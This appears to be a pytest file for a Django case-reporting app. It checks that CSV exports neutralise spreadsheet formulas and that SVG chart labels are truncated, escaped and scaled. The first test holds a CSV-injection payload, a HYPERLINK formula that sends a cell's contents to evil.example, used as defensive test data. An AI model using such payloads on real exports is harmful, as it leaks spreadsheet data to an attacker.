"""What leaves the reports for other programs: CSV opened in a spreadsheet, and the SVG
charts drawn in the page. Both carry words customers and admins typed."""

import pytest

from cases import charts, services
from tests.helpers import bars, csv_rows

pytestmark = pytest.mark.django_db


def test_csv_cells_a_customer_typed_are_never_formulas(clock, customer, manager_client):
    # A spreadsheet runs a cell starting with = + - or @ as a formula (CSV injection).
    services.report_case(
        acting_user=customer,
        title='=HYPERLINK("http://evil.example/?"&A1,"Open")',
        description="Looks harmless.",
    )
    customer.full_name = "@SUM(1+1)"
    customer.save(update_fields=["full_name"])

    row = csv_rows(manager_client, "unowned")[1]

    assert row[1] == '\'=HYPERLINK("http://evil.example/?"&A1,"Open")'
    assert row[2] == "'@SUM(1+1)"


def test_chart_labels_are_cut_before_they_are_escaped():
    label = "Facilities, Building Mgmt & Repairs"  # the & is the 27th of 28 characters shown
    svg = charts.bar_chart([(label, 3)], title="Breaches by department")

    assert bars(svg) == [("Facilities, Building Mgmt & ", "3")]
    assert ">Facilities, Building Mgmt &amp; </text>" in svg


def test_chart_draws_one_bar_per_item_scaled_to_the_largest():
    svg = charts.bar_chart([("Support", 4), ("Hardware", 1), ("Parts", 0)], title="Breaches")

    assert 'role="img" aria-label="Breaches"' in svg
    assert bars(svg) == [("Support", "4"), ("Hardware", "1"), ("Parts", "0")]
    assert 'width="320.0"' in svg and 'width="80.0"' in svg and 'width="0.0"' in svg
    assert charts.bar_chart([], title="Nothing") == ""
